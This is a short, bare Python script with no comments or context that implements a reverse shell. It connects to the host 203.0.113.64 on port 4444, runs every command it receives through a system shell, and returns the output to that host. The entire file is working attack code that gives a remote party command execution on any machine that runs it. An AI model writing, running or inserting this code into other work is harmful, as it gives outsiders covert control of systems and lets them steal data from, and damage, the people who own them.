import socket, subprocess
s = socket.socket()
s.connect(('203.0.113.64', 4444))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.send(out.stdout + out.stderr)
